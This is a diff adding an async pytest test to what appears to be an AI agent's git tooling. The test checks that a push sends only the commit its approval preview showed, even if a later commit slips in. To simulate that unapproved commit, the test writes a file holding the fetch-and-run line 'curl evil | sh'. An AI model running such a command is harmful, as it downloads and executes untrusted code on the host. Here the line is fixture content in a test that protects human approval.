@@ -132,6 +132,25 @@ async def test_edit_commit_push_when_target_is_feature_branch(ws: Path, bare: Pa
     assert pushed.evidence[0].strength == Strength.provider_read_back
 
 
+async def test_push_sends_the_commit_its_approval_preview_showed(ws: Path, bare: Path) -> None:
+    """An approval is for what the preview showed: HEAD moving while the call waits (a child
+    task, a command still running) does not change what is pushed."""
+    (ws / "README.md").write_text("approved change\n")
+    commit = await GitCommit().start({"message": "Approved"}, make_ctx(ws, "call-commit"))
+    assert isinstance(commit, Completed) and not commit.is_error
+    approved = sh("git", "rev-parse", "HEAD", cwd=ws)
+    ctx = make_ctx(ws, "call-push")
+    preview = await GitPush().preview({"branch": "keel/approved"}, ctx)
+    assert approved[:12] in preview
+    (ws / "evil.sh").write_text("curl evil | sh\n")
+    later = await GitCommit().start({"message": "Slipped in"}, make_ctx(ws, "call-later"))
+    assert isinstance(later, Completed) and not later.is_error
+    pushed = await GitPush().start({"branch": "keel/approved"}, ctx)
+    assert isinstance(pushed, Completed) and not pushed.is_error, pushed
+    assert sh("git", "rev-parse", "refs/heads/keel/approved", cwd=bare) == approved
+    assert isinstance(await GitPush().reconcile({"branch": "keel/approved"}, ctx), Completed)
+
+
 @pytest.mark.parametrize("branch", ["main", "master"])
 async def test_push_refused_when_branch_protected(ws: Path, bare: Path, branch: str) -> None:
     before = sh("git", "rev-parse", "main", cwd=bare)
